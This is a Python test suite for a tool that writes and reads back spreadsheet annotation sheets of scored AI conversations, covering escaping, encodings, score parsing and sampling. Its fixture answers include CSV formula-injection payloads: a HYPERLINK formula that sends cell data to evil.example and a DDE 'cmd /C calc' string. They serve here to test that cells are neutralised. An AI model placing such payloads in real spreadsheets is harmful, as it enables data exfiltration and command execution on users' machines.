"""Annotation sheets as spreadsheets, editors and tired people give them back."""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from collections.abc import Callable
from dataclasses import replace
from itertools import pairwise
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from harvest.judging.sheets.annotation_sheet import COLUMNS, Assessed, row_counts, sample_rows, sheet_rows, write_sheet
from harvest.judging.sheets.asked_rows import Draw, select_rows
from harvest.judging.sheets.filled_sheet import FilledSheet, read_sheet
from harvest.judging.sheets.sheet_file import LARGEST, escape_text, protect_cell, read_rows, restore_cell
from protocols.answer import Answer, Source
from recordings.conversations.conversation import Conversation, Outcome, SystemTurn, TrialKey, Turn
from scoring.swan.assessment import assess
from scoring.swan.schema import load_schema
from topics.errors import InputError

SCHEMA = load_schema()
ANSWERS = (
    '=HYPERLINK("http://evil.example/?"&A1;"click")',
    "+49 30 1234",
    "-1 is the answer; or 2, or\tthree",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=quoted already",
    "1.10",
    "TRUE",
    'She said "no", twice.\r\nThen a new line; ünïcödé, もう一つ, \ud83d half, NUL \0 and ESC \x1b.',
)


def assessed(*answers: str, system: str = "B", topic: str = "007", trial: int = 1) -> Assessed:
    """One conversation with these answers."""
    turns = tuple(Turn(i, "S", "=1+1", SystemTurn(Answer(text))) for i, text in enumerate(answers, 1))
    conversation = Conversation(TrialKey(system, topic, trial), f"{trial:032x}", 1, turns, Outcome("completed"))
    return Assessed(conversation, assess(conversation, SCHEMA))


def test_the_answers_in_these_tests_are_in_a_recorded_conversation() -> None:
    assert row_counts([assessed(*ANSWERS)], [SCHEMA["Fluency"], SCHEMA["Adaptability"]]) == {
        "Fluency": len(ANSWERS),
        "Adaptability": 1,
    }


def exported(path: Path, *criteria: str, of: list[Assessed] | None = None) -> list[list[str]]:
    """The cells of a sheet about the fluency of the answers, as a standard reader reads them."""
    one = of or [assessed(*ANSWERS)]
    write_sheet((row for name in criteria or ("Fluency",) for row in sheet_rows(one, SCHEMA[name])), path)
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def filled(cells: list[list[str]], value: str = "0.5") -> list[list[str]]:
    at = cells[0].index("value")
    return [cells[0], *([*row[:at], value, *row[at + 1 :]] for row in cells[1:])]


def as_text(cells: list[list[str]], separator: str = ",", end: str = "\n", quoting: int = csv.QUOTE_MINIMAL) -> str:
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=separator, lineterminator=end, quoting=quoting).writerows(cells)  # type: ignore[arg-type]
    return out.getvalue()


def imported(path: Path, data: bytes, of: list[Assessed] | None = None) -> FilledSheet:
    path.write_bytes(data)
    return read_sheet(path, of or [assessed(*ANSWERS)], SCHEMA)


@given(st.text(alphabet=st.characters(codec="utf-8") | st.sampled_from("'=+-@\t\r 0123456789.eE")))
def test_escaped_text_is_restored_exactly_and_steers_no_spreadsheet(text: str) -> None:
    cell = protect_cell(text)
    assert restore_cell(cell) == text
    assert not cell.lstrip().startswith(tuple("=+-@＝＋－＠"))


def test_no_cell_of_a_sheet_begins_as_a_formula_or_looks_like_another_number(tmp_path: Path) -> None:
    cells = exported(tmp_path / "s.csv")
    text = cells[0].index("text")
    assert [row[text][:3] for row in cells[1:8]] == ["'=H", "'+4", "'-1", "'@S", "''=", "'1.", "'TR"]
    assert {row[cells[0].index("said")] for row in cells[1:]} == {"'=1+1"}
    assert {row[cells[0].index("topic")] for row in cells[1:]} == {"'007"}
    assert cells[1][cells[0].index("turn")] == "1"


def test_the_first_columns_of_a_row_are_for_people(tmp_path: Path) -> None:
    whole = "I think the film is old. Looper was made in 2012. It is long."
    cells = exported(tmp_path / "s.csv", "Correctness", of=[assessed(whole, topic="M001")])
    row = dict(zip(cells[0], cells[2], strict=True))
    assert tuple(cells[0]) == COLUMNS
    assert cells[0].index("id") == len(cells[0]) - 1
    assert cells[2][:3] == ["M001", "1", "system"]
    assert row["text"] == "Looper was made in 2012."
    assert row["context"] == "I think the film is old. ⟦Looper was made in 2012.⟧ It is long."
    assert row["value"] == ""


def test_a_row_shows_the_documents_next_to_the_judged_turn(tmp_path: Path) -> None:
    shown = Source("https://a.example/1"), Source("=https://b.example/", title="B\nC"), Source("", title="Office")
    answers = Answer("At nine. [1]", sources=(*shown, shown[0])), Answer("And on Sunday.")
    turns = tuple(Turn(i, "S", "When?", SystemTurn(one)) for i, one in enumerate(answers, 1))
    conversation = Conversation(TrialKey("A", "T", 1), f"{1:032x}", 1, turns, Outcome("completed"))
    one = Assessed(conversation, assess(conversation, load_schema("news")))
    write_sheet(sheet_rows([one], load_schema("news")["Sourcing"]), tmp_path / "s.csv")
    rows = list(read_rows(tmp_path / "s.csv", COLUMNS, ("value",)))
    told = "https://a.example/1\nB\nC – =https://b.example/\nOffice"
    assert [restore_cell(row.get("sources")) for row in rows] == [told, ""]


def in_utf8(cells: list[list[str]]) -> bytes:
    return as_text(cells).encode()


def by_excel_in_german(cells: list[list[str]]) -> bytes:
    decimal = [[cell.replace("0.5", "0,5") if cell == "0.5" else cell for cell in row] for row in cells]
    return as_text(decimal, ";", "\r\n").encode("utf-8-sig")


def by_excel_as_unicode_text(cells: list[list[str]]) -> bytes:
    return as_text(cells, "\t", "\r\n").encode("utf-16")


def by_libreoffice_with_every_cell_quoted(cells: list[list[str]]) -> bytes:
    return as_text(cells, ",", "\n", csv.QUOTE_ALL).encode()


def with_a_declared_separator(cells: list[list[str]]) -> bytes:
    return b"\xef\xbb\xbfsep=;\r\n" + as_text(cells, ";", "\r\n").encode()


def with_empty_columns_and_rows_at_the_end(cells: list[list[str]]) -> bytes:
    wide = [[*row, "", "", ""] for row in cells]
    return as_text([*wide, [""] * len(wide[0]), [""] * len(wide[0])]).encode()


def with_names_in_capitals_and_columns_in_another_order(cells: list[list[str]]) -> bytes:
    turned = [row[::-1] for row in cells]
    return as_text([[f" {name.upper()} " for name in turned[0]], *turned[1:]]).encode()


def with_rows_sorted_and_a_column_of_ones_own(cells: list[list[str]]) -> bytes:
    return as_text([[*cells[0], "my thoughts"], *([*row, "hm, well"] for row in reversed(cells[1:]))]).encode()


def with_line_ends_of_old_machines(cells: list[list[str]]) -> bytes:
    return as_text(cells, ",", "\r").encode()


@pytest.mark.parametrize(
    "save",
    [
        in_utf8,
        by_excel_in_german,
        by_excel_as_unicode_text,
        by_libreoffice_with_every_cell_quoted,
        with_a_declared_separator,
        with_empty_columns_and_rows_at_the_end,
        with_names_in_capitals_and_columns_in_another_order,
        with_rows_sorted_and_a_column_of_ones_own,
        with_line_ends_of_old_machines,
    ],
)
def test_the_same_scores_are_read_however_a_spreadsheet_saves_the_sheet(
    tmp_path: Path, save: Callable[[list[list[str]]], bytes]
) -> None:
    sheet = tmp_path / "s.csv"
    found = imported(sheet, save(filled(exported(sheet, "Fluency", "Adaptability"))))
    assert sorted((one.criterion, one.about.get("turn", 0), one.value) for one in found.judgments) == [
        ("Adaptability", 0, 0.5),
        *(("Fluency", turn, 0.5) for turn in range(1, len(ANSWERS) + 1)),
    ]
    assert [one.about for one in found.judgments if one.criterion == "Adaptability"] == [
        {"system": "B", "topic": "007"}
    ]


def test_a_jsonl_sheet_keeps_formulas_unescaped_and_is_read_back(tmp_path: Path) -> None:
    sheet = tmp_path / "s.jsonl"
    write_sheet(sheet_rows([assessed(*ANSWERS)], SCHEMA["Fluency"]), sheet)
    rows = [json.loads(line) for line in sheet.read_text(encoding="utf-8").splitlines()]
    assert rows[0]["text"] == ANSWERS[0]
    found = imported(sheet, "\n".join(json.dumps({**row, "value": 0.25}) for row in rows).encode())
    assert [one.value for one in found.judgments] == [0.25] * len(ANSWERS)


def test_a_repeated_key_in_a_line_is_refused_because_one_value_would_be_lost(tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"s\.jsonl:1:38: the key 'value' appears twice"):
        imported(tmp_path / "s.jsonl", b'{"criterion": "Fluency", "value": 1, "value": 0}\n')


def test_a_cell_that_a_spreadsheet_truncated_is_still_recognised(tmp_path: Path) -> None:
    sheet, one = tmp_path / "s.csv", [assessed("word, " * 9000)]
    cells = filled(exported(sheet, of=one))
    at = cells[0].index("text")
    cut = [cells[0], [*cells[1][:at], cells[1][at][:32_767], *cells[1][at + 1 :]]]
    assert len(imported(sheet, in_utf8(cut), one).judgments) == 1
    other = [cells[0], [*cells[1][:at], "other " * 6000, *cells[1][at + 1 :]]]
    with pytest.raises(InputError, match="this text differs from the recording"):
        imported(sheet, in_utf8(other), one)


@pytest.mark.parametrize(
    ("value", "read"),
    [("0,5", 0.5), (",25", 0.25), ("1,0", 1.0), ("1.", 1.0), (".5", 0.5), ("5e-1", 0.5), ("N/A", None), ("-", None)],
)
def test_scores_are_read_in_the_forms_that_spreadsheets_write(tmp_path: Path, value: str, read: float | None) -> None:
    cells = filled(exported(tmp_path / "s.csv"), value)
    assert {one.value for one in imported(tmp_path / "s.csv", in_utf8(cells)).judgments} == {read}


@pytest.mark.parametrize(
    "value",
    [
        "50%",
        "1,000",
        "2",
        "-0.5",
        "nan",
        "inf",
        "1e999",
        "0x1",
        "½",
        "٠",
        "TRUE",
        "1/2",
        "05.Mai",
        "#N/A",
        "0.5 ?",
        "1 0",
    ],
)
def test_an_ambiguous_score_is_refused_and_not_guessed(tmp_path: Path, value: str) -> None:
    cells = filled(exported(tmp_path / "s.csv"), value)
    with pytest.raises(InputError, match=r"s\.csv:2:\d+: value: .* is not a score\n  allowed: a number from 0 to 1"):
        imported(tmp_path / "s.csv", in_utf8(cells))


@pytest.mark.parametrize(
    ("data", "what"),
    [
        (b"", "the sheet is empty"),
        (b"\xef\xbb\xbf", "the sheet is empty"),
        (b"criterion,note\nFluency,x\n", "the sheet has no column 'value'"),
        (b"PK\x03\x04\0\0", "a ZIP archive"),
        (b"id,row\0\n", "a NUL byte"),
        (b"criterion,value\nFluency,\xe9\n", "CSV UTF-8"),
        (b"\xff\xfecriterion", "incomplete UTF-16"),
        (b'criterion,value\n"Fluency,1\n', "never closed"),
        (b"criterion,value,value\nFluency,1,0\n", "two columns are called 'value'"),
        (b"criterion,value\nFluency,1,0\n", "the row has 3 cells, but the table has 2 columns"),
        (b"criterion;value\nFluency;1;0\n", "contains a semicolon"),
        (b"criterion,value\n,1\n", "no criterion called ''"),
        (b"criterion,value\nFluency,1\n", "the sheet has no column 'id'"),
        (b"criterion,value,id,attempt\nFluency,1,1.23E+31,1\n", "read the trial as a number"),
        (
            b"criterion,value,system,topic\nAdaptability,1,B,7\n",
            "this run has no finished conversation of this system on the topic '7'",
        ),
    ],
)
def test_an_invalid_sheet_is_refused_with_its_place_and_advice(tmp_path: Path, data: bytes, what: str) -> None:
    with pytest.raises(InputError, match=what) as caught:
        imported(tmp_path / "s.csv", data)
    assert str(caught.value).startswith(f"{tmp_path}/s.csv")


def test_a_sheet_of_200_megabytes_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    sheet = tmp_path / "s.csv"
    with sheet.open("wb") as file:
        file.truncate(200 * 2**20)
    with pytest.raises(InputError, match="larger than 64 MiB"):
        read_sheet(sheet, [], SCHEMA)


def test_an_unreadable_sheet_is_not_written(tmp_path: Path) -> None:
    long = [{"text": "x" * 2**20}] * (LARGEST // 2**20 + 1)
    with pytest.raises(InputError, match="--sample N"):
        write_sheet(long, tmp_path / "s.csv")
    assert not list(tmp_path.iterdir())


def test_incomplete_sheets_say_how_many_rows_and_notes_were_left_out(tmp_path: Path) -> None:
    cells = exported(tmp_path / "s.csv")
    value, note = (cells[0].index(name) for name in ("value", "note"))
    cells[1][value], cells[1][note], cells[2][note] = "1", "fine", "don't know"
    found = imported(tmp_path / "s.csv", in_utf8(cells))
    assert (len(found.judgments), found.judgments[0].note) == (1, "fine")
    assert (found.empty, found.notes) == (len(ANSWERS) - 1, 1)


def test_words_of_another_row_are_refused_if_only_some_columns_were_sorted(tmp_path: Path) -> None:
    cells = filled(exported(tmp_path / "s.csv"))
    at = cells[0].index("id")
    cells[1][: at - 3], cells[2][: at - 3] = cells[2][: at - 3], cells[1][: at - 3]
    turn = cells[0].index("turn")
    cells[1][turn], cells[2][turn] = cells[2][turn], cells[1][turn]
    with pytest.raises(InputError, match="this text differs from the recording"):
        imported(tmp_path / "s.csv", in_utf8(cells))


def test_every_row_is_equally_likely_and_every_topic_has_its_share() -> None:
    rows = [
        {"topic": topic, "system": system}
        for topic, count in (("a", 30), ("b", 12), ("c", 3))
        for system in "xyz"
        for _ in range(count // 3)
    ]
    drawn = Counter[int]()
    for seed in range(600):
        chosen = sample_rows(rows, 15, np.random.default_rng(seed))
        topics = Counter(row["topic"] for row in chosen)
        assert (len(chosen), topics["a"], topics["b"], topics["c"]) == (15, 10, 4, 1)
        places = [next(i for i, row in enumerate(rows) if row is one) for one in chosen]
        assert places == sorted(set(places))
        drawn.update(places)
    # 600 draws at 1/3: 200 expected, standard deviation 11.5; 45 rows stay within five of them
    assert all(142 < drawn[i] < 258 for i in range(len(rows)))


def test_a_sample_of_a_design_covers_all_its_cells() -> None:
    # 6 topics in 60 cells, a row in each: every sixth row would be of the same ten cells of every topic.
    rows = [{"topic": topic, "system": f"{cell:02}"} for topic in "abcdef" for cell in range(60)]
    chosen = sample_rows(rows, 60, np.random.default_rng(0))
    assert set(Counter(row["topic"] for row in chosen).values()) == {10}
    assert len({row["system"] for row in chosen}) > 30


def test_a_sample_smaller_than_the_topics_does_not_always_choose_the_largest() -> None:
    rows = [{"topic": topic, "system": "x"} for topic, count in (("a", 5), ("b", 1)) for _ in range(count)]
    topics = Counter(sample_rows(rows, 1, np.random.default_rng(seed))[0]["topic"] for seed in range(300))
    assert 20 < topics["b"] < 80  # 50 expected


def test_the_same_seed_draws_the_same_rows_and_a_full_sample_is_everything() -> None:
    rows = [{"topic": str(i % 7), "system": "x", "id": str(i)} for i in range(50)]
    one, again, other = (sample_rows(rows, 10, np.random.default_rng(seed)) for seed in (1, 1, 2))
    assert one == again != other
    assert sample_rows(rows, 50, np.random.default_rng(1)) == sample_rows(rows, 99, np.random.default_rng(1)) == rows


def test_places_in_a_sheet_after_a_declared_separator_are_those_of_the_file(tmp_path: Path) -> None:
    (tmp_path / "s.csv").write_text("sep=;\ncriterion;value\nFluency;1\n", encoding="utf-8")
    (row,) = read_rows(tmp_path / "s.csv", COLUMNS, ("value",))
    assert (row.where("value").line, row.where("value").column) == (3, 9)


def test_two_systems_in_one_sheet_are_told_apart_by_the_contents_of_the_row(tmp_path: Path) -> None:
    two = [assessed("yes", system="A"), assessed("no", system="C", trial=2)]
    two[1] = replace(two[1], conversation=replace(two[1].conversation, trial_id="f" * 32))
    found = imported(tmp_path / "s.csv", in_utf8(filled(exported(tmp_path / "s.csv", "Adaptability", of=two))), two)
    assert [one.about for one in found.judgments] == [{"system": name, "topic": "007"} for name in "AC"]


def test_a_sheet_that_names_systems_in_the_old_way_is_still_read(tmp_path: Path) -> None:
    of = [assessed("yes", system="A"), assessed("no", system="C", trial=2)]
    data = b"criterion,value,system,topic\nAdaptability,1,C,'007\n"
    assert [one.about for one in imported(tmp_path / "s.csv", data, of).judgments] == [{"system": "C", "topic": "007"}]


def test_a_sheet_hides_which_system_a_row_is_of_and_does_not_group_systems() -> None:
    names = ("mine", "yours", "theirs")
    of = [
        assessed(f"Answer {trial}.", "And more.", system=name, trial=3 * i + trial)
        for i, name in enumerate(names)
        for trial in range(1, 9)
    ]
    ids = {one.conversation.trial_id: one.conversation.key.system for one in of}
    rows, _ = select_rows(of, SCHEMA, ["Fluency", "Adaptability"], Draw(seed=3))
    again, _ = select_rows(of, SCHEMA, ["Fluency", "Adaptability"], Draw(seed=3))
    assert rows == again != select_rows(of, SCHEMA, ["Fluency", "Adaptability"], Draw(seed=4))[0]
    told = json.dumps([{name: row.get(name, "") for name in COLUMNS} for row in rows])
    assert not any(name in told for name in names)
    order = [row["id"] for row in rows if row["criterion"] == "Fluency"]
    assert order[::2] == order[1::2], "what is asked of one conversation stands together"
    systems = [ids[one] for one in order[::2]]
    assert sum(a == b for a, b in pairwise(systems)) < len(systems) - len(names)
    (first, *_) = [row for row in rows if row["criterion"] == "Adaptability"]
    assert "USER: =1+1" in first["text"]


def test_a_lone_surrogate_and_a_control_character_are_written_out() -> None:
    assert escape_text("a\ud83d\0\x1b\n\tb") == "a\\ud83d\\x00\\x1b\n\tb"


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("filled", [("1", "0"), ("1", ""), ("", "")])
def test_a_sheet_that_is_truncated_within_a_row_is_refused(
    tmp_path: Path, separator: str, filled: tuple[str, str]
) -> None:
    """Also between cells, and where a doubled quotation mark is halved, so that it looks like a closing one."""
    rows = exported(tmp_path / "x.csv", of=[assessed('He said "no" and ""', 'A "word", and\nanother')])
    for row, value in zip(rows[1:], filled, strict=True):
        row[COLUMNS.index("value")] = value
    text, ends = io.StringIO(newline=""), [0]
    for row in rows:
        csv.writer(text, delimiter=separator, quoting=csv.QUOTE_ALL).writerow(row)
        ends.append(len(text.getvalue()))
    for end in range(ends[1] + 1, ends[-1] + 1):
        (tmp_path / "x.csv").write_text(text.getvalue()[:end], newline="")
        read = [i for i, at in enumerate(ends[1:]) if at - 2 <= end <= at]  # to the end of a row, or into its line end
        if read:
            assert len(list(read_rows(tmp_path / "x.csv", COLUMNS, ("criterion", "value")))) == read[0]
        else:
            with pytest.raises(InputError, match=r"is incomplete|never closed"):
                list(read_rows(tmp_path / "x.csv", COLUMNS, ("criterion", "value")))
